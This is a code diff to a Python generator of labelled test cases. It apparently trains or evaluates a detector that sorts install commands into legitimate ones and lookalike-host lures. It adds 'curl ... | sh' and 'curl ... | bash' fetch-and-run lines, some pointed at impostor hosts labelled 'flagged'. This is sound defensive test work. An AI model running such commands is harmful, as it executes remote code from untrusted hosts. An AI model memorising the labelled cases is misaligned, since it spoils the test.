@@ -341,6 +341,10 @@ def tutorials() -> list[dict[str, str]]:
         items.append((brand, f"curl -fsSL {script} | sh", "linux"))
     for brand, _site, _path, host, _product in WIN_VENDORS:
         items.append((brand, f"irm https://{host}/install.ps1 | iex", "windows"))
+    # installer services that install other projects' tools by name (webi)
+    for tool in ("k9s", "fzf", "node", "golang"):
+        items.append((tool, f"curl -sS https://webi.sh/{tool} | sh", "linux"))
+    items.append(("node", "curl.exe https://webi.ms/node | powershell", "windows"))
     for n, (name, text, platform) in enumerate(items, start=1):
         template = TUTORIAL_PAGES[n % len(TUTORIAL_PAGES)]
         source = template.replace("{p}", name).replace("{P}", name.capitalize())
@@ -590,6 +594,13 @@ def lures() -> list[dict[str, str]]:
     for n, (_brand, _site, _path, script, _prog) in enumerate(VENDORS[:8], start=1):
         out.append(case(f"dv-dev-page-unnamed-{n}", f"curl -fsSL {script} | sh", "suspicious",
                         LURE, "linux", dev_pages[n % len(dev_pages)], "terminal"))  # fmt: skip
+    # an installer service's name inside someone else's host
+    for n, host in enumerate(
+        ["webi.sh.cdn-files.example", "webi-sh.example", "webinstal.dev"], start=1
+    ):
+        out.append(case(f"dv-lure-webi-lookalike-{n}", f"curl -sS https://{host}/k9s | bash",
+                        "flagged", MASQUERADE, "linux",
+                        TUTORIAL_PAGES[n].replace("{p}", "k9s"), "terminal"))  # fmt: skip
     # a page about a known publisher's tool does not vouch for someone else's copy of it
     out += [
         case("dv-lure-known-fork-1",
